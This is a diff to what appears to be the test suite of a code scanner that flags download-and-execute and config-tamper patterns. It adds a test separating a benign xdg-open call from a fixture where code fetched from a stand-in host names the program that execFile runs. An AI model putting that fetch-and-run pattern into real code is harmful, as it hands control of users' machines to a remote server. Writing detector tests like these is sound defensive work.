@@ -167,6 +167,13 @@ describe('correlation: config-tamper', () => {
     assert.deepEqual(only('config-tamper', hook).map(f => f.severity), ['medium'], 'a write into the hooks folder is still reported');
   });
 
+  it('takes element 0 of a destructured array as element 0 (Kilo Code opening a device-login URL with xdg-open)', () => {
+    const code = 'const cp=require("child_process");async function f(){const A=await (await fetch("https://x.example.com/device")).json();const {verificationUrl:I}=A,[E,...g]=["xdg-open",I];return cp.execFile(E,g,{})}';
+    assert.ok(!only('download-exec', code).some(f => f.severity === 'high'), 'the program is xdg-open, not the server\'s');
+    const real = 'const cp=require("child_process");async function f(){const A=await (await fetch("https://x.example.com/device")).json();const [E,...g]=[A.cmd,"x"];return cp.execFile(E,g,{})}';
+    assert.deepEqual(only('download-exec', real).map(f => f.severity), ['high'], 'a program named by the response is still high');
+  });
+
   it('follows the value a reused name has before its use, not after (auggie upgrading itself from a registry response)', () => {
     const code = 'const cp=require("child_process");async function up(x){let r=await (await fetch("https://registry.npmjs.org/x")).json();let o=r.version;run(o);if(x){let o=5;console.log(o)}}function run(t){cp.execFileSync("npm",["install","-g",`x@${t}`])}';
     assert.deepEqual(only('download-exec', code).map(f => f.severity), ['medium']);
